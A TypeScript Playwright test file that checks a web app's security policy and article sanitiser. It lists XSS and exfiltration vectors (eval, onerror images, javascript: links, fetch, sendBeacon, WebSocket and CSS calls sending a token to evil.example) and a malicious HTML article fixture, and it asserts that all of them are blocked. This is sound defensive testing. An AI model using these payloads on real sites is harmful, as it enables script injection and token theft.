import { expect, test } from './fixtures.ts'
import { deploy } from './site.ts'
import { answerArticles } from './xss-vectors.ts'

const EVIL = '"https://evil.example/?token=1"'
const add = (tag: string, property: string, value = EVIL) =>
  `document.body.append(Object.assign(document.createElement("${tag}"), { ${property}: ${value} }))`

/** Ways to run code or to send data elsewhere that an injected text could try. */
const ATTACKS = [
  add('script', 'text', '"window.broken = 1"'),
  add('script', 'src'),
  // An upload of another user, on the page's own host.
  'await import("/upload/picture.js")',
  'eval("window.broken = 1")',
  'new Function("window.broken = 1")()',
  `document.createElement("div").innerHTML = "<img src='x:' onerror='window.broken = 1'>"`,
  `${add('a', 'href', '"javascript:window.broken = 1"')}; document.body.lastChild.click()`,
  add('iframe', 'src'),
  add('object', 'data'),
  `${add('form', 'action')}; document.body.lastChild.submit()`,
  `${add('base', 'href')}; if (document.baseURI.includes("evil")) window.broken = 1`,
  `await fetch(${EVIL}, { mode: "no-cors" })`,
  `navigator.sendBeacon(${EVIL}, "token")`,
  'new WebSocket("wss://evil.example/")',
  `new Worker(URL.createObjectURL(new Blob(['fetch(${EVIL})'])))`,
  add('style', 'textContent', `'@import ${EVIL};'`),
  add('img', 'src'),
  `document.body.style.backgroundImage = 'url(${EVIL})'`,
  add('video', 'poster'),
  add('audio', 'src'),
  `document.head.append(Object.assign(document.createElement("link"), { rel: "icon", href: ${EVIL} }))`,
  `document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: ${EVIL} }))`,
]

test('§6: no injected code runs, no data leaves, no page frames the app', async ({ page, context }) => {
  const requests: string[] = []
  page.on('request', request => requests.push(request.url()))
  // What reaches the network: a page also has requests that the policy then blocks.
  const left: string[] = []
  page.on('websocket', socket => left.push(socket.url()))
  await context.route('https://evil.example/**', route => {
    left.push(route.request().url())
    return route.fulfill({ body: 'left' })
  })
  await page.route('**/upload/picture.js', route =>
    route.fulfill({ contentType: 'text/javascript', body: 'window.broken = 1' }),
  )
  await page.goto('market?q=BTC&token=s3cret&next=%2Fhome%3Ftoken%3Ds3cret#token=s3cret')
  await expect(page).toHaveURL(/\/market\?q=BTC&next=%2Fhome$/)
  await expect(page.getByRole('row').filter({ hasText: 'BTC' })).toBeVisible()
  expect(requests.slice(1).filter(url => url.includes('s3cret'))).toEqual([])
  // The violations are what the rest is about.
  for (const event of ['console', 'pageerror'] as const) page.removeAllListeners(event)
  for (const attack of [...ATTACKS, add('iframe', 'src', '"/h4/home"')]) {
    // In a task of the page: developer tools may use eval.
    const task = `setTimeout(async () => {
      try { ${attack} } catch {}
      requestAnimationFrame(() => requestAnimationFrame(() => done([window.broken, location.pathname])))
    })`
    const found = await page.evaluate(`new Promise(done => ${task})`)
    expect.soft(found, attack).toEqual([undefined, '/h4/market'])
  }
  expect(left.filter(url => url.includes('evil.example'))).toEqual([])
  await expect.poll(() => page.frames().at(-1)?.url()).toContain('chrome-error:')

  // The limit that docs/reliability.md names: no policy stops code that runs from leaving the page.
  await page.evaluate(`setTimeout(() => location.assign(${EVIL}))`)
  await page.waitForURL('https://evil.example/?token=1')
})

const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=='
/** An article that tries to send a token away or to lead the reader away. */
const ARTICLE = `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<p>Pictures: <img src="https://evil.example/?token=1" alt="a chart"><img src="//evil.example/2" alt="a plan">
<img src="https://evil.example:443@else.example/" alt="a map"><table><tr><td><img src="https://evil.example/3" alt="a cell"></td></tr></table>
<img src="/h4/icon-192.png" alt="own"><img src="${PIXEL}" alt="inline"><img src="https://named.example/1.gif" alt="named">
<form action="https://evil.example/"><input name="password"><button>Send</button></form>
<a href="https://evil.example/page" target="_top" rel="opener">leave</a>`

for (const guarded of [false, true])
  test(`§2 /article/info: no token leaves by a picture, only a tap opens another site, ${guarded ? 'under the policy' : 'by the app alone'}`, async ({
    page,
    context,
    origin,
  }) => {
    const calls: string[] = []
    context.on('request', request => calls.push(request.url()))
    const picture = Buffer.from(PIXEL.split(',')[1] ?? '', 'base64')
    await context.route('https://*.example/**', route =>
      route.fulfill({ body: picture, contentType: 'image/gif' }),
    )
    await answerArticles(page, () => ARTICLE)
    await deploy(page, { guarded, block: { imageHosts: ['https://named.example'] } }, origin)
    // The policy says what it blocks of the article.
    page.removeAllListeners('console')
    await page.goto('article/info?id=1')
    const article = page.getByRole('article')
    for (const alt of ['own', 'inline', 'named'])
      await expect
        .poll(() => article.getByAltText(alt).evaluate(each => (each as HTMLImageElement).naturalWidth))
        .toBeGreaterThan(0)
    // The words of the others are in their places.
    await expect(article.getByRole('img')).toHaveCount(3)
    for (const words of ['a chart', 'a plan', 'a map', 'a cell'])
      await expect(article.getByText(words, { exact: true })).toHaveCSS('border-style', 'dashed')
    await expect(article.locator('base, meta, form, input, button')).toHaveCount(0)
    expect(calls.filter(url => /evil|else/.test(url))).toEqual([])

    const opened = context.waitForEvent('page')
    await article.getByRole('link', { name: 'leave' }).click()
    const other = await opened
    expect(await other.evaluate(() => [opener, document.referrer])).toEqual([null, ''])
    await expect(page).toHaveURL(/article\/info/)
  })
